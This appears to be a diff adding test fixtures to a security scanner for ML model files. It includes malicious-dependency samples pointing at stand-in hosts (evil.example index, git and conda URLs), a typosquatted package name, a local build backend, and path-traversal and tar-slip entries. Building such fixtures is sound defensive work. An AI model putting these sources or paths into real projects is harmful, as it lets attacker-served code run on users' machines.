@@ -250,6 +250,23 @@ def _notebook_output(name: str, mime: str, text: str) -> Factory:
     return _bytes(name, json.dumps(doc))
 
 
+# ---------------------------------------------------------------------------------- manifests
+_EVIL_INDEX = "https://packages.evil.example/simple"
+
+
+def _mar_manifest(model: dict[str, str]) -> Factory:
+    """A .mar as torch-model-archiver lays it out (MAR-INF/MANIFEST.json beside the files)."""
+    manifest = {
+        "createdOn": "07/12/2026 12:00:00",
+        "runtime": "python",
+        "model": {"modelName": "m", "serializedFile": "model.pt", "modelVersion": "1.0", **model},
+        "archiverVersion": "0.12.0",
+    }
+    members = [("MAR-INF/MANIFEST.json", json.dumps(manifest, indent=2).encode())]
+    members += [("requirements.txt", b"numpy==1.26.4\n")]
+    return _zip_file("m.mar", members)
+
+
 # ---------------------------------------------------------------------------------- flax
 
 
@@ -529,6 +546,26 @@ SAMPLES: dict[str, Factory] = {
     "MX-MLFLOW-102": _mlflow(("loader_module: mlflow.pyfunc.model", "loader_module: my_loader")),
     "MX-MLFLOW-103": _mlflow(
         ("python_model: python_model.pkl", "python_model: ../../tmp/payload.pkl")
+    ),
+    # manifests (tests/test_manifests.py has the real-tool fixtures)
+    "MX-MANIFEST-001": _bytes("requirements.txt", f"--extra-index-url {_EVIL_INDEX}\nnumpy\n"),
+    "MX-MANIFEST-002": _bytes("requirements.txt", "git+https://git.evil.example/x/y.git\n"),
+    "MX-MANIFEST-003": _bytes("requirements.txt", "-e .\n"),
+    "MX-MANIFEST-004": _bytes("requirements.txt", "reqeusts==2.31.0\n"),
+    "MX-MANIFEST-005": _bytes("requirements.txt", "-r base.txt\n"),
+    "MX-MANIFEST-006": _bytes("requirements.txt", "helpers --global-option=build_ext\n"),
+    "MX-MANIFEST-007": _bytes("requirements.txt", "numpy\nhelpers from somewhere\n"),
+    "MX-MANIFEST-008": _bytes(
+        "environment.yml",
+        "name: x\nchannels:\n- https://conda.evil.example/c\ndependencies:\n- numpy\n",
+    ),
+    "MX-MANIFEST-101": _mar_manifest({"handler": "handler.py"}),
+    "MX-MANIFEST-102": _mar_manifest(
+        {"handler": "image_classifier", "requirementsFile": "requirements.txt"}
+    ),
+    "MX-MANIFEST-103": _bytes(
+        "pyproject.toml",
+        '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n',
     ),
     # archives
     "MX-ARCHIVE-001": _tar_file("slip.tar", [("../escape_marker.txt", b"harmless")]),
